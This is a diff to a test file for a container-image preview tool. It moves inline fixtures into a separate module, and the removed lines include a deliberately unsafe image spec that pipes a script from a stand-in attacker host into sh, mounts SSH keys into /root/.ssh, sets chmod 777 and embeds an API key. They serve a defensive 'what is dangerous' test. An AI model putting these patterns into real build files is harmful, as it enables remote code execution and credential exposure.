@@ -4,42 +4,18 @@ import { type PreparedSpec, previewSpec } from "pithy-image-preview/server";
 import type { Page } from "playwright-core";
 import { beforeAll, describe, expect, test } from "vitest";
 import { inLine, NARROW, stepsOf, useBrowser, verdictOf } from "./browser.ts";
+import { BAD, bad, GOOD, good, KEY } from "./odd.ts";
 import { project } from "./project.ts";
 
 const { open } = useBrowser();
-
-const SCRIPT = "set -e\ncd /app\npython -m venv .venv\n.venv/bin/pip install --upgrade pip\n";
-
-const good = () =>
-  Image.base("python:3.12-slim-bookworm")
-    .runCommands(
-      `curl -fsSLO https://downloads.example.com/tool.tgz && echo "${"a".repeat(64)}  tool.tgz" | sha256sum -c`,
-    )
-    .addLocalDir("src", "/app")
-    .runScript(SCRIPT)
-    .env({ LOG: "info" })
-    .user("nobody");
-
-const KEY = "q8Zr2LkV9mXw4TnB7cJd5HsF";
-
-const bad = () =>
-  Image.base("python:latest")
-    .runCommands("curl -fsSL https://evil.example.net/tool.sh | sh")
-    .addLocalDir("src", "/app")
-    .addLocalDir("keys", "/root/.ssh")
-    .runScript(SCRIPT.replace("--upgrade pip", "--upgrade pip openai").concat("chmod 777 /app\n"))
-    .env({ LOG: "info", API_KEY: KEY });
-
-const PRIVATE_KEY =
-  "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END OPENSSH PRIVATE KEY-----\n";
 
 let baseline: PreparedSpec;
 let spec: PreparedSpec;
 let page: Page;
 
 beforeAll(async () => {
-  baseline = await previewSpec(good(), { root: project({ "src/main.py": "print(1)\n" }) });
-  spec = await previewSpec(bad(), { root: project({ "src/main.py": "print(2)\n", "keys/id_ed25519": PRIVATE_KEY }) });
+  baseline = await previewSpec(good(), { root: project(GOOD) });
+  spec = await previewSpec(bad(), { root: project(BAD) });
 });
 
 describe("what is dangerous", () => {
